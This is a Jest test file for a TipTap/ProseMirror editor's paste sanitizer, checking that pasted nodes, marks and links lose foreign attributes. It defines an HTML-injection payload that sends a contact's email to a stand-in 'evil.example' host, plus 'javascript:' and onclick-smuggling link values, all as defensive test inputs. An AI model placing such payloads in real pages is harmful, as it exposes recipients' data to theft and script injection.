// What is pasted into a text brings no HTML with it that the editor does not show.
import { getExtensionField, getSchema } from '@tiptap/core';
import { Fragment, type Mark, type Node, Slice } from '@tiptap/pm/model';
import type { Plugin } from '@tiptap/pm/state';
import type { EditorView } from '@tiptap/pm/view';
import { describe, expect, it } from '@jest/globals';
import type { RichNode } from '../../../console/src/editors/content/rich-doc.ts';
import { htmlOf } from '../../../console/src/editors/content/rich-html.ts';
import { copiedSlice, rememberCopied } from '../../../console/src/editors/content/rich-copy.ts';
import { cleanPasted, isPastedLiquid, pastedLink } from '../../../console/src/editors/content/rich-paste.ts';
import { richExtensions } from '../../../console/src/editors/content/rich-schema.ts';

const EVIL = '"><img src="https://evil.example/?{{ contact.email }}">';
const schema = getSchema(richExtensions);
const nodeTypes = Object.values(schema.nodes).filter(({ name }) => name !== 'doc' && name !== 'text');
const markTypes = Object.values(schema.marks);

const written = (content: Fragment) => htmlOf({ type: 'doc', content: content.toJSON() as RichNode[] });
const word = (marks: readonly Mark[] = []) => schema.text('word', marks);
const paragraph = (inline: Node) => schema.node('paragraph', null, inline);
const fragment = (node: Node) => Fragment.from(node.isInline ? paragraph(node) : node);

/** An element of another page, with this value in each attribute that is not given. */
const element = (given: Record<string, string>) => ({
  style: {},
  getAttribute: (name: string) => given[name] ?? EVIL,
  hasAttribute: () => true,
});

/** What the rules of the schema read from such an element. */
function readBy(spec: { parseDOM?: readonly object[] }, given: Record<string, string>): object[] {
  return (spec.parseDOM ?? []).flatMap((rule) => {
    if (!('tag' in rule) || !('getAttrs' in rule) || typeof rule.getAttrs !== 'function') return [];
    const attrs: unknown = (rule.getAttrs as (from: object) => unknown)(element(given));
    return typeof attrs === 'object' && attrs !== null ? [attrs] : [];
  });
}

/** Every attribute that the schema knows, with this value. */
const all = (spec: { attrs?: object }, value: string) =>
  Object.fromEntries(Object.keys(spec.attrs ?? {}).map((name) => [name, value]));

describe('an element that is pasted', () => {
  const usual = { href: 'https://good.example/', 'data-liquid': '{{ name }}' };
  const nodes = nodeTypes.flatMap((type) =>
    readBy(type.spec, usual).map((attrs): [string, Node] => {
      const content = type.isTextblock ? word() : paragraph(word());
      return [type.name, type.isLeaf ? type.create(attrs) : type.create(attrs, content)];
    }),
  );
  const marks = markTypes.flatMap((type) =>
    readBy(type.spec, usual).map((attrs): [string, Node] => [type.name, word([type.create(attrs)])]),
  );
  const read = [...nodes, ...marks];

  it('is of any kind', () => {
    const kinds = ['paragraph', 'heading', 'listItem', 'hardBreak', 'liquid', 'link', 'bold', 'strike'];
    expect(read.map(([name]) => name)).toEqual(expect.arrayContaining(kinds));
  });

  it.each(read)('has no attribute that the editor would write (%s)', (_name, node) => {
    expect(written(fragment(node))).not.toContain('evil');
  });

  it('is a link with its own address only, and none if mail programs do not open it', () => {
    const { spec, create } = {
      spec: schema.marks.link?.spec ?? {},
      create: schema.mark.bind(schema, 'link'),
    };
    const [attrs] = readBy(spec, { ...usual, attributes: ' href="javascript:alert(1)"' });
    expect(written(fragment(word([create(attrs)])))).toBe('<p><a href="https://good.example/">word</a></p>');
    expect(readBy(spec, { href: 'javascript:alert(1)' })).toEqual([]);
  });
});

describe('a slice with the attributes of another editor', () => {
  const evil = nodeTypes.map((type): [string, Node] => [
    type.name,
    // As the view does it for what it finds in the clipboard: without a check of the content.
    type.create(all(type.spec, EVIL), type.inlineContent ? word() : paragraph(word())),
  ]);

  it.each(evil)('loses all of them (%s)', (_name, node) => {
    const { content } = cleanPasted(new Slice(fragment(node), 1, 1));
    expect(written(content)).not.toMatch(/<img|href/);
  });

  it('has no content in elements that hold none', () => {
    const rule = schema.node('horizontalRule').type.create(null, paragraph(word()));
    expect(cleanPasted(new Slice(Fragment.from(rule), 1, 1)).toJSON()).toEqual({
      content: [expect.objectContaining({ type: 'horizontalRule' })],
    });
  });

  it.each(markTypes.map(({ name }) => [name]))('loses those of marks (%s)', (name) => {
    const mark = schema.mark(name, all(schema.marks[name]?.spec ?? {}, ` href="javascript:alert(1)"${EVIL}`));
    const { content } = cleanPasted(new Slice(fragment(word([mark])), 1, 1));
    expect(written(content)).not.toMatch(/evil|javascript/);
  });

  it('keeps formats, links, levels and values', () => {
    const link = schema.mark('link', { attributes: ' href="https://x.example/?a=1&amp;b={{ id }}"' });
    const heading = schema.node('heading', { level: 3 }, [
      word([link, schema.mark('bold')]),
      schema.node('liquid', { source: '{{ name | default: "all" }}' }),
      schema.node('exact', { source: '&rarr;', shown: '→' }),
    ]);
    const { content, openStart, openEnd } = cleanPasted(new Slice(Fragment.from(heading), 1, 1));
    expect(written(content)).toBe(
      '<h3><a href="https://x.example/?a=1&amp;b={{ id }}"><strong>word</strong></a>{{ name | default: "all" }}→</h3>',
    );
    expect([openStart, openEnd]).toEqual([1, 1]);
  });
});

it.each([
  ['{{ name }}', true],
  ['{% if a < 1 %}', true],
  ['{{ a }}<img>{{ b }}', false],
  ['{% if "%}<img>{%" %}', false],
  [String.raw`{{ "\"" }}<img>{{ " }}`, false],
  ['<img>', false],
])('a pasted value is one output or tag, and nothing else: %s', (source, expected) => {
  expect(isPastedLiquid(source)).toBe(expected);
});

it.each([
  ['https://x.example/{{ id }}', ' href="https://x.example/{{ id }}"'],
  ['mailto:a@x.example', ' href="mailto:a@x.example"'],
  ['tel:+31', ' href="tel:+31"'],
  ['#place', ' href="#place"'],
  [
    '{{ order.url | default: "https://x.example/" }}',
    ' href="{{ order.url | default: "https://x.example/" }}"',
  ],
  ['https://x.example/" onclick="x', ' href="https://x.example/&quot; onclick=&quot;x"'],
  ['javascript:alert(1)', null],
  ['data:text/html,x', null],
  ['/page', null],
  ['', null],
  ['https://x.example/{% raw %}', null],
  ['https://x.example/{{ x', null],
  [String.raw`https://x.example/{{ "\"" }}" onclick="x{{ " }}`, null],
])('a pasted link to %s has the attributes %s', (href, expected) => expect(pastedLink(href)).toBe(expected));

it('the editor cleans what is pasted or dropped, but not what is moved within a text', () => {
  const slice = new Slice(
    Fragment.from(schema.node('paragraph', { attributes: ' class="lead"' }, word())),
    1,
    1,
  );
  const plugins = richExtensions.flatMap((extension) => {
    const add = getExtensionField<(() => Plugin[]) | undefined>(extension, 'addProseMirrorPlugins', {});
    return extension.name === 'cleanPaste' && add ? add() : [];
  });
  const inserted = (dragging: EditorView['dragging']) =>
    plugins.map((plugin) =>
      plugin.props.transformPasted?.call(plugin, slice, { dragging } as EditorView, false),
    );
  expect(inserted(null).map((each) => each && written(each.content))).toEqual(['<p>word</p>']);
  expect(inserted({ slice, move: true })).toEqual([slice]);
  const another = new Slice(slice.content, 1, 1);
  expect(inserted({ slice: another, move: true })).not.toEqual([slice]);
});

describe('what is copied within the editors', () => {
  const html = '<p data-pm-slice="1 1 []">word</p>';
  const link = schema.mark('link', { attributes: ' href="https://x.example/" class="own"' });
  const slice = new Slice(Fragment.from(paragraph(word([link]))), 1, 1);
  const another = getSchema(richExtensions);
  const view = (of: typeof schema, text = 'word') =>
    ({
      state: { schema: of, selection: { empty: false, content: () => slice } },
      serializeForClipboard: () => ({ slice, text }),
    }) as unknown as EditorView;
  const clipboard = (given: Record<string, string>) => ({ getData: (type: string) => given[type] ?? '' });

  it('is pasted with its links, also into another section', () => {
    rememberCopied(view(schema, 'two\n words'));
    const data = clipboard({ 'text/html': html, 'text/plain': 'two\r\n\u00a0words' });
    const copied = copiedSlice(view(another), data);
    expect(copied && written(copied.content)).toBe(
      '<p><a href="https://x.example/" class="own">word</a></p>',
    );
    expect(copied?.content.firstChild?.type.schema).toBe(another);
  });

  it.each([
    ['another text', { 'text/html': html, 'text/plain': 'other' }],
    ['no HTML of an editor', { 'text/html': '<p>word</p>', 'text/plain': 'word' }],
    ['no text', { 'text/html': html }],
  ])('is not pasted if the clipboard has %s', (_name, given) => {
    rememberCopied(view(schema));
    expect(copiedSlice(view(schema), clipboard(given))).toBeNull();
  });
});
